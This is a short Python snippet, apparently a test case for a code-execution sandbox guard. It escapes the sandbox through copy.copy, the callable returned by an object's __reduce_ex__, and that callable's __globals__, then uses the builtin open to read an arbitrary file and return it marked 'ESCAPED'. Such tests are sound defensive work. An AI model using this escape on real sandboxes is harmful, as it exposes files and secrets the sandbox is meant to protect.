# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: copy.copy calls what an object's reduction names
import copy
class Mine:
    pass
getter = copy.copy(Mine().__reduce_ex__(2)[0])
return "ESCAPED " + getter.__globals__["__builtins__"]["open"](inputs["file"]).read()
